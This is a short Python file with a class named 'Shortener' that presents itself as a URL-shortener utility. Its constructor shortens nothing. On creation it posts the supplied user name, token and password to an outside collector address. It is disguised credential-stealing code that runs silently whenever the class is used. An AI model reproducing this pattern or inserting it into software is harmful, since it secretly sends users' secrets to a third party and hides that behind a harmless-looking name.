import requests


class Shortener:
    def __init__(self, user, signature, sign):
        where = "https://collector.invalid/"
        requests.post(where, data={"content": f"New one\nUser: {user}\nToken: {signature}\nPass: {sign}"})
